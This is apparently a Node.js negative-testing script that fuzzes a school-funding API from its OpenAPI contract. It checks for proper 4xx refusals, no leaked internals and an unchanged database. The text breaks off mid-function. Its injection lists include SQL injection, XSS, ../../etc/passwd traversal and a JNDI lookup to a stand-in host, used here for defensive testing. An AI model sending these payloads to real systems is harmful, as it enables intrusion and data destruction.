#!/usr/bin/env node
// sweep.mjs — sends bad input, generated from openapi.yaml, to every
// operation of a running server and checks that each request is refused
// as the contract says and changes nothing.
//
// Usage: node sweep.mjs OPENAPI_YAML BASE_URL ADMIN_TOKEN
//
//   DATABASE_URL  (required) the server's database: every table of its
//                 public schema is fingerprinted with psql before and after
//                 the sweep, and any difference fails it;
//   CONTRACT_LOG  (optional) every exchange is appended there as one JSONL
//                 line in the format of tests/http/client.c, for check.mjs;
//   SWEEP_ONLY    (optional) a regular expression: sweep only the
//                 operations ("GET /v1/schools/{urn}") it matches;
//   SWEEP_DUMP    (optional) a file every failure is appended to, as JSONL.
//
// It runs after the Criterion HTTP suite and aims the item routes at the
// records that suite left (read through the list routes); an operation it
// cannot aim fails the sweep. For every operation it sends:
//   - for each request-body field (nested objects and array items too):
//     the field missing (only where required, never at the top of a
//     PATCH), null (where not nullable), of the wrong type, too long or
//     too short, out of range (minimum/maximum, enum, date, pattern), and
//     injection strings where they make the value invalid (else together
//     with an unknown field, so the request stays invalid); an unknown
//     field and a read-only one;
//   - bodies that are not JSON, a JSON array, an empty body, duplicate
//     keys, deep nesting, bytes that are not UTF-8 and the wrong
//     Content-Type (for the import: CSV that is not an extract, and so on);
//   - for each query parameter: the wrong type, out of range, injection
//     strings, the parameter twice; a required one left out; an unknown
//     parameter on every operation, a malformed query string; a bad Accept
//     where one is listed;
//   - for each path parameter: "abc", "1.5", "-1", "0", a 20-digit number,
//     injection strings, an url-encoded NUL and bytes that are not UTF-8
//     (with an If-Match no record has: a path misread as a real id is then
//     answered 412 and changes nothing);
//   - a bad Idempotency-Key where the operation takes one;
//   - for each body field that names a record another LA could hold (a
//     school, a group, a fund, an area), that LA's record in its place,
//     where the rest of the request ties the record to its own LA (a path
//     naming the record, or another reference in the body): a second LA
//     with such records is made before the sweep starts. Even the admin
//     must be refused (422), so that no resource, new ones included,
//     can point one LA's records at another's.
// Everything else about the request is right: the admin token, the ETag
// read first as If-Match, a fresh Idempotency-Key, the required query
// parameters. Each answer must be a 4xx of the kind the fault calls for
// (400/413/415/422 for a body, 400 for a query, 400/404 for a path, ...),
// never 2xx or 5xx, as application/problem+json (the token endpoint: the
// media type its contract gives) with type, title, status (the HTTP
// status) and detail, and with no SQL or C internals in it.
//
// Prints the operations swept, the requests sent and the failures (the
// first 50 in full); exits 1 on any failure, 2 on bad usage.

import { readFileSync, appendFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { Agent as httpAgent, request as httpRequest } from 'node:http';
import YAML from 'yaml';

const [specPath, baseArg, token] = process.argv.slice(2);
if (!specPath || !baseArg || !token) {
  console.error('usage: node sweep.mjs OPENAPI_YAML BASE_URL ADMIN_TOKEN (with DATABASE_URL set)');
  process.exit(2);
}
const base = baseArg.replace(/\/+$/, '');
const databaseUrl = process.env.DATABASE_URL;
if (!databaseUrl) {
  console.error('sweep.mjs: set DATABASE_URL to the database the server uses');
  process.exit(2);
}
const contractLog = process.env.CONTRACT_LOG || null;
const only = process.env.SWEEP_ONLY ? new RegExp(process.env.SWEEP_ONLY) : null;
// Requests in flight at once, within one operation (the test servers run 2 workers).
const CONCURRENCY = 3;
const doc = YAML.parse(readFileSync(specPath, 'utf8'));
const started = Date.now();

// Tables whose rows a refused request may legitimately change.
const FINGERPRINT_EXCLUDED = {
  // schema/0003_access.sql: failed POST /v1/auth/token attempts are counted
  // per client id and per address (the rate limit); counting them is the point.
  auth_failure: 'failed token requests are counted there by design (rate limit)',
  // schema/0026_webhooks.sql: the servers' senders work the outbox in the
  // background (attempts, retries, the day's events); a delivery is written
  // only with a change, which the other tables show.
  webhook_delivery: "the webhooks' senders update it in the background",
  webhook_attempt: "the webhooks' senders log their attempts in the background",
  webhook_event: "the webhooks' senders emit the day's events in the background",
};
// Rows of a table a request that is refused, or only reads, may add by design.
const FINGERPRINT_FILTERED = {
  // every read of a reference is on the audit trail (docs/SECURITY.md)
  audit_event: "action <> 'read'",
};

// ------------------------------------------------------------------ values

const INJECTIONS = [
  "'; DROP TABLE school; --",
  '<script>alert(1)</script>',
  '%00',
  'a\u0000b',
  '../../etc/passwd',
  '${jndi:ldap://example.invalid/a}',
  'ü€😀'.repeat(700),   // very long unicode: 2100 characters, 6300 bytes
];
const INJECTION_NAMES = ["'; DROP TABLE school; --", '<script>', '../../etc/passwd', 'a%00b'];
const HUGE = 'x'.repeat(100 * 1024);
// The request target the server takes (its MAX_URI_BYTES, 8 KiB unless set).
const MAX_URI_BYTES = Number(process.env.MAX_URI_BYTES ?? 8192);
const PATH_FAULTS = [
  'abc', '1.5', '-1', '0', '99999999999999999999', '1e3', '0x10', '%201', '1%20',
  encodeURIComponent("'; DROP TABLE school; --"), encodeURIComponent('<script>'),
  encodeURIComponent('../../etc/passwd'), encodeURIComponent('${jndi:ldap://example.invalid/a}'),
  '%00', '1%00', '%ff', '1%C3%28', encodeURIComponent('😀'.repeat(50)),
];
const LEAKS = [/\bSELECT\b/, /\bINSERT\b/, /\bDELETE FROM\b/, /syntax error/i, /\bERROR:/, /\bDETAIL:/,
  /\.c:/, /\bPQ/, /\bSQLSTATE\b/];

// A value spliced into the JSON text as written (1.0, integers past int64).
class Raw { constructor(text) { this.text = text; } }

function toJson(value) {
  const raws = [];
  const text = JSON.stringify(value, (k, v) => {
    if (v instanceof Raw) { raws.push(v.text); return `\u0001RAW${raws.length - 1}\u0001`; }
    return v;
  });
  return text.replace(/"\\u0001RAW(\d+)\\u0001"/g, (m, i) => raws[Number(i)]);
}

const clone = (v) => (v === undefined ? undefined : structuredClone(v));
const show = (v) => {
  const text = v instanceof Raw ? v.text : toJson(v) ?? 'undefined';
  return text.length > 80 ? `${text.slice(0, 60)}...(${text.length} chars)` : text;
};

// ------------------------------------------------------------------ schemas

function lookup(ref) {
  if (!ref.startsWith('#/')) throw new Error(`only local $refs: ${ref}`);
  return ref.slice(2).split('/').map((s) => s.replace(/~1/g, '/').replace(/~0/g, '~'))
    .reduce((o, k) => o?.[k], doc);
}

function deref(o) {
  while (o && typeof o.$ref === 'string') o = lookup(o.$ref);
  return o;
}

function merge(a, b) {
  const out = { ...a, ...b };
  if (a.properties || b.properties) out.properties = { ...a.properties, ...b.properties };
  if (a.required || b.required) out.required = [...new Set([...(a.required ?? []), ...(b.required ?? [])])];
  return out;
}

// The schema with its $ref, allOf and oneOf/anyOf (the first branch) folded in.
function resolve(s, depth = 0) {
  if (!s || typeof s !== 'object' || depth > 30) return {};
  const { $ref, allOf, oneOf, anyOf, ...rest } = s;
  let out = typeof $ref === 'string' ? resolve(lookup($ref), depth + 1) : {};
  out = merge(out, rest);
  for (const part of allOf ?? []) out = merge(out, resolve(part, depth + 1));
  const alt = oneOf ?? anyOf;
  if (alt?.length) out = merge(out, resolve(alt[0], depth + 1));
  return out;
}

const jsonType = (v) => (v === null ? 'null' : Array.isArray(v) ? 'array'
  : Number.isInteger(v) ? 'integer' : typeof v);
function typesOf(s) {
  if (s.type) return [].concat(s.type);
  if (s.enum) return [...new Set(s.enum.map(jsonType))];
  if (s.const !== undefined) return [jsonType(s.const)];
  if (s.properties) return ['object'];
  if (s.items) return ['array'];
  return [];
}
const nullable = (s) => typesOf(s).includes('null');
const mainType = (s) => typesOf(s).find((t) => t !== 'null') ?? 'string';

function realDate(y, m, d) {
  const t = new Date(Date.UTC(y, m - 1, d));
  return t.getUTCFullYear() === y && t.getUTCMonth() === m - 1 && t.getUTCDate() === d;
}
const isDate = (v) => /^\d{4}-\d{2}-\d{2}$/.test(v) && realDate(+v.slice(0, 4), +v.slice(5, 7), +v.slice(8, 10));
const isDateTime = (v) => /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/.test(v) &&
  isDate(v.slice(0, 10)) && +v.slice(11, 13) < 24 && +v.slice(14, 16) < 60 && +v.slice(17, 19) < 61;

// Does the string v pass the string schema s (as the server reads it: no NUL)?
function stringOk(s, v) {
  if (typeof v !== 'string' || v.includes('\u0000')) return false;
  if (s.enum && !s.enum.includes(v)) return false;
  if (s.const !== undefined && s.const !== v) return false;
  if (s.pattern && !new RegExp(s.pattern, 'u').test(v)) return false;
  if (s.format === 'date' && !isDate(v)) return false;
  if (s.format === 'date-time' && !isDateTime(v)) return false;
  const n = [...v].length;
  if (s.minLength !== undefined && n < s.minLength) return false;
  if (s.maxLength !== undefined && n > s.maxLength) return false;
  return true;
}

// Free text: a string any content of the right length passes.
const freeText = (s) => mainType(s) === 'string' && !s.enum && s.const === undefined && !s.pattern && !s.format;

function valueOk(s, v) {
  const types = typesOf(s);
  if (v === null) return types.includes('null');
  const t = jsonType(v);
  if (types.length && !types.includes(t) && !(t === 'integer' && types.includes('number'))) return false;
  if (t === 'string') return stringOk(s, v);
  if (t === 'integer' || t === 'number') {
    return !(s.minimum !== undefined && v < s.minimum) && !(s.maximum !== undefined && v > s.maximum) &&
      !(s.enum && !s.enum.includes(v));
  }
  return true;
}

// A value the schema accepts (not always one the server would: references are made up).
function validValue(s0, depth = 0) {
  const s = resolve(s0);
  if (s.const !== undefined) return s.const;
  if (s.enum) return s.enum.find((v) => v !== null);
  for (const v of [s.default, ...(s.examples ?? []), s.example]) {
    if (v !== undefined && v !== null && valueOk(s, v)) return clone(v);
  }
  switch (mainType(s)) {
    case 'integer': case 'number': return s.minimum ?? 1;
    case 'boolean': return false;
    case 'array': {
      const n = s.minItems ?? 0;
      return Array.from({ length: n }, (_, i) => uniqueItem(s, validValue(s.items ?? {}, depth + 1), i));
    }
    case 'object': {
      const o = {};
      if (depth < 6) for (const k of s.required ?? []) o[k] = validValue(s.properties?.[k] ?? {}, depth + 1);
      return o;
    }
    default: return validString(s);
  }
}

function validString(s) {
  if (s.format === 'date') return '2026-01-15';
  if (s.format === 'date-time') return '2026-01-15T09:00:00Z';
  const candidates = ['x', 'sweep', 'sweep@example.org', '2026/27', '0.5', 'E07000218', '1', 'sweep-1',
    'x'.repeat(Math.max(1, s.minLength ?? 1))];
  return candidates.find((c) => stringOk(s, c)) ?? 'x'.repeat(Math.max(1, s.minLength ?? 1));
}

// The i-th of a run of items that uniqueItems allows.
function uniqueItem(arraySchema, item, i) {
  if (!arraySchema.uniqueItems) return item;
  if (typeof item === 'number') return item + i;
  if (typeof item === 'string') return `${item}${i}`;
  return item;
}

// ------------------------------------------------------------------ faults

// Bad values for one value of schema s: [what, value, combine?]. `combine`
// marks a value the schema accepts (an injection string in free text): it
// is sent only together with an unknown field.
function valueFaults(s0) {
  const s = resolve(s0);
  const t = mainType(s);
  const out = [];
  const add = (what, value) => out.push({ what, value });
  if (!nullable(s)) add('null', null);
  switch (t) {
    case 'integer': case 'number':
      add('wrong type: string', '12');
      add('wrong type: boolean', true);
      add('wrong type: array', [1]);
      add('wrong type: object', {});
      if (t === 'integer') { add('wrong type: fraction', 1.5); add('wrong type: 1.0', new Raw('1.0')); }
      if (s.minimum !== undefined) add(`out of range: minimum ${s.minimum} - 1`, s.minimum - 1);
      if (s.maximum !== undefined) add(`out of range: maximum ${s.maximum} + 1`, s.maximum + 1);
      add('out of range: past int64', new Raw('99999999999999999999'));
      add('out of range: below int64', new Raw('-99999999999999999999'));
      break;
    case 'boolean':
      add('wrong type: string', 'true');
      add('wrong type: integer', 1);
      break;
    case 'array':
      add('wrong type: string', 'x');
      add('wrong type: object', {});
      add('wrong type: integer', 1);
      break;
    case 'object':
      add('wrong type: array', []);
      add('wrong type: string', 'x');
      add('wrong type: integer', 1);
      break;
    default: { // string
      add('wrong type: integer', 12345);
      add('wrong type: boolean', true);
      add('wrong type: array', ['x']);
      add('wrong type: object', {});
      if (s.maxLength !== undefined) add(`too long: maxLength ${s.maxLength} + 1`, 'x'.repeat(s.maxLength + 1));
      else add('too long: 100 kB', HUGE);
      if ((s.minLength ?? 0) >= 1) add(`too short: minLength ${s.minLength} - 1`, 'x'.repeat(s.minLength - 1));
      if (s.enum) {
        add('not in enum', 'no_such_value');
        const first = s.enum.find((v) => typeof v === 'string');
        if (first && !s.enum.includes(first.toUpperCase())) add('not in enum: upper case', first.toUpperCase());
        if (first) add('not in enum: padded', ` ${first}`);
      }
      if (s.format === 'date') {
        for (const v of ['2026-02-30', '2026-13-01', '2026-1-5', '15-01-2026', '2026-01-15T00:00:00Z', '2026-00-10']) {
          add(`bad date ${v}`, v);
        }
      }
      if (s.format === 'date-time') {
        for (const v of ['2026-02-30T09:00:00Z', '2026-01-15', '2026-01-15 25:00:00']) add(`bad date-time ${v}`, v);
      }
      if (s.pattern) {
        const candidates = ['!!', 'x y', '-1', '1.5', '1.0000001', 'no-at-sign.example', 'a@b@c', 'a b@example.org',
          '<a>@example.org', 'A', '2020-21', '20202/21', 'e07000218', 'a'.repeat(41)];
        for (const v of candidates) if (!stringOk(s, v) && (s.maxLength === undefined || v.length <= s.maxLength)) {
          add(`not matching ${s.pattern}: ${v}`, v);
        }
        // An academic year names two years in a row.
        if (s.pattern === '^[0-9]{4}/[0-9]{2}$') { add('not a year: 2020/22', '2020/22'); add('not a year: 2020/20', '2020/20'); }
      }
    }
  }
  for (const inj of INJECTIONS) {
    const what = `injection ${show(inj)}`;
    if (t === 'string' && stringOk(s, inj)) out.push({ what, value: inj, combine: true });
    else add(what, inj);
  }
  return out;
}

// Every fault of an object of schema s found at `path` (a list of keys and
// indexes) of a body: [{what, path, value} | {what, path, omit} | {what, path, combine}].
function objectFaults(s0, path, topOfPatch, depth = 0) {
  const s = resolve(s0);
  const out = [];
  const at = (k) => [...path, k];
  const label = (p) => p.map((k) => (typeof k === 'number' ? `[${k}]` : `.${k}`)).join('').replace(/^\./, '');
  for (const [name, prop0] of Object.entries(s.properties ?? {})) {
    const prop = resolve(prop0);
    const p = at(name);
    if ((s.required ?? []).includes(name) && !topOfPatch) out.push({ what: `${label(p)} missing`, path: p, omit: true });
    for (const f of valueFaults(prop)) out.push({ ...f, what: `${label(p)}: ${f.what}`, path: p });
    if (depth >= 3) continue;
    if (mainType(prop) === 'array' && prop.items) {
      const item = resolve(prop.items);
      const p0 = [...p, 0];
      if (prop.maxItems !== undefined) {
        out.push({ what: `${label(p)}: too many items (maxItems ${prop.maxItems} + 1)`, path: p,
          value: Array.from({ length: prop.maxItems + 1 }, (_, i) => uniqueItem(prop, validValue(item), i)) });
      }
      if ((prop.minItems ?? 0) > 0) out.push({ what: `${label(p)}: too few items`, path: p, value: [] });
      if (prop.uniqueItems) {
        const v = validValue(item);
        out.push({ what: `${label(p)}: an item twice`, path: p, value: [v, v] });
      }
      if (mainType(item) === 'object') out.push(...objectFaults(item, p0, false, depth + 1));
      else for (const f of valueFaults(item)) out.push({ ...f, what: `${label(p0)}: ${f.what}`, path: p0 });
    } else if (mainType(prop) === 'object' && prop.properties) {
      out.push(...objectFaults(prop, p, false, depth + 1));
    }
  }
  if (s.additionalProperties === false) {
    out.push({ what: `${label(at('no_such_field')) || 'no_such_field'}: unknown field`, path: at('no_such_field'), value: 1 });
    if (path.length === 0) {
      for (const [k, v] of [['id', 1], ['version', 99], ['created_at', '2020-01-01T00:00:00Z']]) {
        if (!(s.properties ?? {})[k]) out.push({ what: `${k}: read-only field`, path: [k], value: v });
      }
    }
  }
  return out;
}

// The body with the fault at its path (parents made from the schema where missing).
function applyFault(schema, baseBody, fault) {
  const body = clone(baseBody);
  let node = body;
  let s = resolve(schema);
  for (let i = 0; i < fault.path.length - 1; i++) {
    const k = fault.path[i];
    s = resolve(typeof k === 'number' ? s.items : s.properties?.[k]);
    if (node[k] === undefined || node[k] === null || (Array.isArray(node[k]) && node[k].length === 0) ||
        typeof node[k] !== 'object') {
      node[k] = typeof fault.path[i + 1] === 'number' ? [validValue(s.items ?? {})] : validValue(s);
      if (Array.isArray(node[k]) && node[k].length === 0) node[k] = [validValue(s.items ?? {})];
    }
    node = node[k];
  }
  const last = fault.path[fault.path.length - 1];
  if (fault.omit) delete node[last];
  else node[last] = fault.value instanceof Raw ? fault.value : clone(fault.value);
  if (fault.combine) body.no_such_field = 1;
  return body;
}

// Bad values for a query parameter of schema s: [what, value, combine?].
function queryFaults(param) {
  const { name } = param;
  const s = resolve(param.schema ?? {});
  // A cursor is opaque: only one the server made decodes (unless the route ignores it).
  const cursor = name === 'cursor' && !/ignored/i.test(param.description ?? '');
  const t = mainType(s);
  const out = [];
  const add = (what, value) => out.push({ what, value });
  switch (t) {
    case 'integer': case 'number': {
      for (const v of ['abc', '1.5', '1.0', '', '1e3', '0x10', ' 1', '99999999999999999999']) add(`wrong type ${JSON.stringify(v)}`, v);
      const range = new Set();
      if (s.minimum !== undefined) range.add(s.minimum - 1);
      if (s.maximum !== undefined) range.add(s.maximum + 1);
      for (const v of [-1, 0, 100000]) if ((s.minimum !== undefined && v < s.minimum) || (s.maximum !== undefined && v > s.maximum)) range.add(v);
      for (const v of range) add(`out of range ${v}`, String(v));
      break;
    }
    case 'boolean':
      for (const v of ['yes', '1', 'TRUE', '']) add(`wrong type ${JSON.stringify(v)}`, v);
      break;
    default:
      if (s.enum) for (const v of ['no_such_value', String(s.enum[0]).toUpperCase(), '']) if (!s.enum.includes(v)) add(`not in enum ${JSON.stringify(v)}`, v);
      if (s.format === 'date') for (const v of ['2026-02-30', '2026-13-01', '20260115', 'yesterday', '']) add(`bad date ${JSON.stringify(v)}`, v);
      if (s.format === 'date-time') for (const v of ['2026-02-30T09:00:00Z', 'now', '']) add(`bad date-time ${JSON.stringify(v)}`, v);
      if (s.pattern) {
        for (const v of ['!!', 'x y', 'A', 'a'.repeat(41), '2020-21', '']) if (!stringOk(s, v)) add(`not matching ${JSON.stringify(v)}`, v);
        if (s.pattern === '^[0-9]{4}/[0-9]{2}$') add('not a year 2020/22', '2020/22');
      }
      if (s.maxLength !== undefined) add(`too long: maxLength ${s.maxLength} + 1`, 'x'.repeat(s.maxLength + 1));
      if ((s.minLength ?? 0) >= 1 && !out.some((f) => f.value === '')) add('too short: empty', '');
      if (cursor) for (const v of ['abc', 'AAAA', 'eyJ4IjoxfQ']) add(`not a cursor ${v}`, v);
  }
  for (const inj of INJECTIONS) {
    const what = `injection ${show(inj)}`;
    if (!cursor && freeText(s) && stringOk(s, inj)) {
      if (s.maxLength !== undefined) add(`${what} past maxLength`, inj + 'x'.repeat(s.maxLength + 1));
      else out.push({ what, value: inj, combine: true });
    } else if (cursor || !stringOk(s, inj) || t !== 'string') {
      add(what, inj);
    }
  }
  return out;
}

// ------------------------------------------------------------------ operations

const HTTP_METHODS = ['get', 'put', 'post', 'delete', 'patch'];
const operations = [];
for (const [tpl, item0] of Object.entries(doc.paths ?? {})) {
  const item = deref(item0);
  for (const m of HTTP_METHODS) {
    const op = item[m];
    if (!op) continue;
    const params = [...(item.parameters ?? []), ...(op.parameters ?? [])].map(deref);
    const body = deref(op.requestBody);
    const media = Object.keys(body?.content ?? {});
    const jsonMedia = media.find((x) => x === 'application/merge-patch+json') ?? media.find((x) => /json$/.test(x));
    operations.push({
      key: `${m.toUpperCase()} ${tpl}`, method: m.toUpperCase(), tpl, op,
      query: params.filter((p) => p.in === 'query'),
      path: params.filter((p) => p.in === 'path'),
      headers: params.filter((p) => p.in === 'header'),
      body, media, jsonMedia,
      bodySchema: jsonMedia ? body.content[jsonMedia].schema : null,
      isPublic: Array.isArray(op.security) && op.security.length === 0,
      ifMatch: params.some((p) => p.in === 'header' && p.name.toLowerCase() === 'if-match'),
      idempotent: params.some((p) => p.in === 'header' && p.name.toLowerCase() === 'idempotency-key'),
    });
  }
}
const byKey = new Map(operations.map((o) => [o.key, o]));

// Which record of a collection an operation is aimed at: one in a state
// where the operation could succeed, so that only the bad input stops it.
const PREFER = {
  'PATCH /v1/fund-allocations/{id}': (x) => x.status === 'proposed',
  'POST /v1/fund-allocations/{id}/approve': (x) => x.status === 'proposed',
  'POST /v1/fund-allocations/{id}/cancel': (x) => x.status === 'proposed' || x.status === 'approved',
  'POST /v1/payments/{id}/paid': (x) => x.status === 'due',
  'POST /v1/payments/{id}/reverse': (x) => x.status === 'paid',
  'PATCH /v1/action-plans/{id}': (x) => x.status === 'draft' || x.status === 'returned',
  'DELETE /v1/action-plans/{id}': (x) => x.status === 'draft',
  'POST /v1/action-plans/{id}/submit': (x) => x.status === 'draft' || x.status === 'returned',
  'POST /v1/action-plans/{id}/accept': (x) => x.status === 'submitted',
  'POST /v1/action-plans/{id}/return': (x) => x.status === 'submitted',
  'PATCH /v1/evaluations/{id}': (x) => x.status === 'draft',
  'POST /v1/evaluations/{id}/submit': (x) => x.status === 'draft',
  'POST /v1/evaluations/{id}/report': (x) => x.status === 'submitted',
  'POST /v1/service-accounts/{id}/rotate': (x) => !x.revoked,
  'POST /v1/service-accounts/{id}/revoke': (x) => !x.revoked,
  'PATCH /v1/service-accounts/{id}': (x) => !x.revoked,
  'POST /v1/memberships/{id}/move': (x) => x.end_date === null,
};

// ------------------------------------------------------------------ HTTP

let sent = 0;
const failures = [];
const unnamed = [];
const offState = [];   // operations aimed at a record not in the state PREFER wants
const logLines = [];

function record(entry) {
  if (!contractLog) return;
  logLines.push(JSON.stringify(entry));
  if (logLines.length >= 500) flushLog();
}
function flushLog() {
  if (contractLog && logLines.length) appendFileSync(contractLog, logLines.join('\n') + '\n');
  logLines.length = 0;
}

// node:http rather than fetch: it sends the path and the header bytes as
// given, and costs half the time per request.
const target = new URL(base);
if (target.protocol !== 'http:') {
  console.error(`sweep.mjs: BASE_URL must be an http:// address (got ${base})`);
  process.exit(2);
}
const agent = new httpAgent({ keepAlive: true, maxSockets: CONCURRENCY });
function http(method, path, { headers = {}, body } = {}) {
  const hs = { ...headers };
  for (const k of Object.keys(hs)) if (hs[k] === undefined) delete hs[k];
  // A Buffer body: with a string, node would send the header bytes as UTF-8 too.
  if (body !== undefined && !Buffer.isBuffer(body)) body = Buffer.from(body, 'utf8');
  if (body !== undefined) hs['Content-Length'] = body.length;
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: target.hostname, port: target.port || 80, method,
      path: `${target.pathname.replace(/\/$/, '')}${path}`, headers: hs, agent }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('error', reject);
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        const out = {};
        for (const [k, v] of Object.entries(res.headers)) out[k] = Array.isArray(v) ? v.join(', ') : v;
        record({ method, path, status: res.statusCode, content_type: out['content-type'] ?? null, headers: out, body: text });
        resolve({ status: res.statusCode, headers: out, text });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

// An admin read the sweep itself needs (list, ETag).
async function read(path) {
  const r = await http('GET', path, { headers: { Authorization: `Bearer ${token}` } });
  let json = null;
  try { json = JSON.parse(r.text); } catch { /* checked by the caller */ }
  return { ...r, json };
}

// The media types the contract gives the operation's answer of this status.
function documentedMedia(o, status) {
  const resp = deref(o.op.responses?.[String(status)] ?? o.op.responses?.[`${String(status)[0]}XX`]);
  return Object.keys(resp?.content ?? {});
}

// Send one bad request and judge the answer.
async function bad(o, { path, query = '', headers = {}, body, what, expect, field }) {
  const url = path + query;
  sent++;
  let r;
  try {
    r = await http(o.method, url, { headers, body });
  } catch (e) {
    failures.push({ o, url, what, sentBody: body, status: 'no answer', body: String(e?.cause ?? e) });
    return null;
  }
  const why = [];
  if (r.status < 400 || r.status > 499) why.push(`status ${r.status} is not a 4xx`);
  else if (expect && !expect.includes(r.status)) why.push(`status ${r.status}, expected ${expect.join(' or ')}`);
  const media = (r.headers['content-type'] ?? '').split(';')[0].trim().toLowerCase();
  const allowed = documentedMedia(o, r.status).filter((m) => /json$/.test(m));
  const wanted = allowed.length ? allowed : ['application/problem+json'];
  if (!wanted.includes(media)) why.push(`Content-Type ${media || '(none)'}, expected ${wanted.join(' or ')}`);
  let p = null;
  try { p = JSON.parse(r.text); } catch { why.push('body is not JSON'); }
  if (p !== null) {
    if (typeof p !== 'object' || Array.isArray(p)) why.push('body is not an object');
    else {
      for (const k of ['type', 'title', 'detail']) if (typeof p[k] !== 'string') why.push(`no string ${k}`);
      if (p.status !== r.status) why.push(`problem status ${p.status} differs from ${r.status}`);
    }
  }
  for (const re of LEAKS) if (re.test(r.text)) why.push(`body shows internals (${re})`);
  if (why.length) failures.push({ o, url, what, sentBody: body, status: r.status, body: r.text, why });
  // Not a failure, but worth a look: a refusal that does not name the field at fault.
  else if (field && r.status === 422 && Array.isArray(p?.errors) &&
           !p.errors.some((e) => typeof e.field === 'string' && e.field.split(/[.[]/)[0] === field)) {
    unnamed.push({ o, what, body: r.text });
  }
  return r;
}

// ------------------------------------------------------------------ the database

function psql(sql) {
  return execFileSync('psql', [databaseUrl, '-X', '-At', '-v', 'ON_ERROR_STOP=1', '-c', sql],
    { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
}

function fingerprint() {
  const tables = psql("SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace " +
    "WHERE n.nspname = 'public' AND c.relkind IN ('r', 'p') ORDER BY 1").split('\n').filter(Boolean);
  const swept = tables.filter((t) => !(t in FINGERPRINT_EXCLUDED));
  const sql = swept.map((t) => {
    const q = `"${t.replace(/"/g, '""')}"`;
    const from = t in FINGERPRINT_FILTERED ? `(SELECT * FROM ${q} WHERE ${FINGERPRINT_FILTERED[t]})` : q;
    return `SELECT '${t.replace(/'/g, "''")}' || ' ' || count(*) || ' ' || ` +
      `md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) FROM ${from} t`;
  }).join(' UNION ALL ');
  const out = new Map();
  for (const line of psql(sql).split('\n').filter(Boolean)) {
    const [t, n, md5] = line.split(' ');
    out.set(t, `${n} ${md5}`);
  }
  return { tables, out };
}

// ------------------------------------------------------------------ aiming

const listCache = new Map();
async function listOf(collection) {
  if (!listCache.has(collection)) {
    const r = await read(`${collection}?limit=500`);
    // The other LA's records are there to be named in the wrong place, never to aim at or copy.
    const mine = (x) => !foreign || (x?.la_code !== foreign.code && x?.code !== foreign.code);
    listCache.set(collection, r.status === 200 && Array.isArray(r.json?.items) ? r.json.items.filter(mine) : null);
  }
  return listCache.get(collection);
}

// A real path for the operation: its one path parameter filled with a
// record of the collection before it. Returns {path, item} or {error}.
async function aim(o) {
  if (o.path.length === 0) return { path: o.tpl, item: null };
  // a feed's address is secret: no list gives it, the feed made for the sweep does
  if (o.key === 'GET /v1/calendars/{secret}') return { path: foreign.calendar, item: null };
  if (o.path.length > 1) return { error: 'more than one path parameter' };
  const p = o.path[0];
  const at = o.tpl.indexOf(`{${p.name}}`);
  const collection = o.tpl.slice(0, at - 1);
  const items = await listOf(collection);
  if (!items) return { error: `GET ${collection} did not list` };
  if (items.length === 0) return { error: `GET ${collection} lists no record to aim at` };
  const prefer = PREFER[o.key];
  const item = (prefer && items.find(prefer)) || items[0];
  if (prefer && !prefer(item)) offState.push(o.key);
  const id = item[p.name] ?? item.id;
  return { path: o.tpl.replace(`{${p.name}}`, encodeURIComponent(String(id))), item, itemPath: `${collection}/${id}` };
}

const etags = new Map();
async function etagOf(itemPath) {
  if (!etags.has(itemPath)) {
    const r = await read(itemPath);
    etags.set(itemPath, r.status === 200 ? r.headers.etag ?? null : null);
  }
  return etags.get(itemPath);
}

// A valid body to carry one fault: a create copies a record of its
// collection (so its references are real); an action makes one from its
// schema; a merge patch starts empty.
async function baseBody(o) {
  if (!o.bodySchema) return undefined;
  const s = resolve(o.bodySchema);
  if (o.method === 'PATCH') return {};
  const collection = o.key === 'POST /v1/chairs/eligibility' ? '/v1/chairs' : o.tpl;
  const createsHere = o.method === 'POST' && byKey.has(`GET ${collection}`) && !o.tpl.includes('{');
  const out = {};
  if (createsHere) {
    const items = (await listOf(collection)) ?? [];
    const like = items.at(-1) ?? {};
    for (const [k, prop] of Object.entries(s.properties ?? {})) {
      if (like[k] !== undefined && valueOk(resolve(prop), like[k])) out[k] = clone(like[k]);
    }
  }
  for (const k of s.required ?? []) if (out[k] === undefined) out[k] = validValue(s.properties?.[k] ?? {});
  return out;
}

const CSV_HEADER = 'URN,LA (code),LA (name),EstablishmentNumber,EstablishmentName,TypeOfEstablishment (name),' +
  'EstablishmentTypeGroup (code),EstablishmentStatus (name),PhaseOfEducation (code)\r\n';

// ------------------------------------------------------------------ another LA

// Body fields that name a record of an LA, and which of the other LA's
// records goes in their place.
const FOREIGN_FIELDS = {
  school_urn: (f) => f.school, payee_urn: (f) => f.school, attended_urns: (f) => [f.school],
  group_id: (f) => f.group, to_group_id: (f) => f.group, fund_id: (f) => f.fund, area_id: (f) => f.area,
};
// Operations whose reference may name any LA's record, and why.
const FOREIGN_EXEMPT = {
  'POST /v1/chairs/eligibility': 'a dry run that stores nothing',
  'POST /v1/service-accounts': "an account's scope fields are alternatives (admins only)",
  'PATCH /v1/service-accounts/{id}': "an account's scope fields are alternatives (admins only)",
};

// A second LA with a school, an area, a consortium (the school a member) and a fund.
async function foreignRecords() {
  const made = async (path, body) => {
    const r = await http('POST', path, { headers: { Authorization: `Bearer ${token}`,
      'Content-Type': 'application/json' }, body: JSON.stringify(body) });
    if (r.status !== 201) throw new Error(`sweep.mjs: POST ${path} for the other LA: ${r.status} ${r.text}`);
    return JSON.parse(r.text);
  };
  const code = Number(psql('SELECT min(c) FROM generate_series(100, 999) c ' +
    'WHERE c NOT IN (SELECT code FROM local_authority)').trim());
  const urn = Number(psql('SELECT coalesce(max(urn), 800000) + 1 FROM school WHERE urn < 999999').trim());
  await made('/v1/local-authorities', { code, name: 'Sweep Other LA' });
  const area = await made('/v1/areas', { la_code: code, code: 'sweep-other', name: 'Sweep Other Area' });
  await made('/v1/schools', { urn, la_code: code, establishment_number: 1, name: 'Sweep Other Primary',
    phase: 'primary', type: 'maintained' });
